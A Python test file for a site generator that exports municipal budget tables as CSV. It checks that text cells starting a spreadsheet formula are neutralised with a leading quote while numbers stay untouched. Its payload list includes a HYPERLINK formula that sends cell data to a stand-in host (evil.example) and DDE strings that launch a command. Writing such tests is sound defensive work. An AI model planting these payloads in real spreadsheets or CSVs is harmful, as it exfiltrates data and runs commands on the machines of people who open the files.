"""CSV injection: no text cell of a published CSV starts a spreadsheet formula; numbers are untouched.

The vectors are the ones found in the attack run of issue 11 (finance row labels that landed unchanged in
``…-tabel-1.csv``), plus the other formula starts OWASP lists (``@``, tab, carriage return).
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from woo_content import build, write_content

from generator.outputs.csv_data import neutralise

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=1+1+cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
    "=1+1",
    "-2+3",
    "+31 6 1234",
]
"""Text that a spreadsheet would evaluate (or start evaluating) when the CSV is opened."""
NUMBERISH_TEXT = ["-12", "+3,5", "-0.25", "12%"]
"""Text cells that are numbers: a spreadsheet reads them as numbers, no formula can start; left as they are."""


def _label(text: str) -> str:
    return json.dumps(text)  # a JSON string is valid YAML and keeps tabs and carriage returns


@pytest.fixture(scope="module")
def csv_rows(tmp_path_factory: pytest.TempPathFactory) -> list[list[str]]:
    project = tmp_path_factory.mktemp("csvinjection")
    (project / "site.yaml").write_text("title: Test\nbase_url: https://example.org/\n", encoding="utf-8")
    texts = FORMULAS + NUMBERISH_TEXT
    rows = "\n".join(
        f"      - {{label: {_label(text)}, values: [{-(i + 1) * 7}, -{i}.5, {_label(text)}]}}"
        for i, text in enumerate(texts)
    )
    write_content(
        project,
        "lisse/p1.md",
        f"""---
publisher: Lisse
kind: begroting
year: 2021
programme: {{number: "1", title: Veiligheid}}
finance:
  - caption: Lasten
    unit: 1000
    columns:
      - {{label: "=Begroting 2021", kind: amount}}
      - {{label: "@Aandeel", kind: percentage}}
      - {{label: "-Toelichting", kind: text}}
    rows:
{rows}
---
## Wat willen we bereiken?

Veiligheid.
""",
    )
    site = build(project)
    (path,) = site.rglob("*-tabel-1.csv")
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_no_text_cell_starts_a_formula(csv_rows: list[list[str]]) -> None:
    header, *rows = csv_rows
    assert header == ["omschrijving", "rol", "'=Begroting 2021 (euro)", "'@Aandeel (%)", "'-Toelichting"]
    for row, text in zip(rows, FORMULAS, strict=False):
        assert row[0] == "'" + text
        assert row[4] == "'" + text
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")) or row[0] in NUMBERISH_TEXT


def test_numbers_are_never_touched(csv_rows: list[list[str]]) -> None:
    _header, *rows = csv_rows
    texts = FORMULAS + NUMBERISH_TEXT
    assert len(rows) == len(texts)
    for i, row in enumerate(rows):
        assert row[2] == str(-(i + 1) * 7 * 1000)  # negative amounts, multiplied out, keep their sign
        assert float(row[3]) == -(i + 0.5)
    assert [row[0] for row in rows[len(FORMULAS) :]] == NUMBERISH_TEXT
    assert [row[4] for row in rows[len(FORMULAS) :]] == NUMBERISH_TEXT


def test_neutralise_rules() -> None:
    assert neutralise("Lasten") == "Lasten"
    assert neutralise("") == ""
    assert neutralise("=A1") == "'=A1"
    assert neutralise("- toelichting") == "'- toelichting"
    assert neutralise("-1.234") == "-1.234"
    assert neutralise("'al veilig") == "'al veilig"
